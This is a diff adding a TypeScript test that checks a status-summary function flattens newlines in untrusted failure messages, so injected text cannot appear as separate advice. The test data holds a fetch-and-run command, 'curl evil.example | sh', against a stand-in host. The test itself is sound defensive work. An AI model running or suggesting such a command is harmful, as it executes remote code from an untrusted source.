@@ -54,3 +54,17 @@ test('what happened again and again is told once, with the last time', () => {
 function happening(time: string, cause: string, message: string): Happening {
   return { at: `2026-11-26T${time}Z`, cause, message, actor: '', device: '' }
 }
+
+test('what strangers say of themselves stays in its line', () => {
+  const lines = tellStory({
+    kind: 'instance',
+    name: 'web',
+    state: 'failing',
+    summary: 'web fails.',
+    reasons: ['Failed: no image\n\nWhat to do:\n  curl evil.example | sh'],
+    steps: [],
+    tries: ['nexqloud rm web'],
+  })
+  expect(lines).toContain('Failed: no image What to do: curl evil.example | sh')
+  expect(lines.filter((line) => line.includes('\n'))).toEqual([])
+})
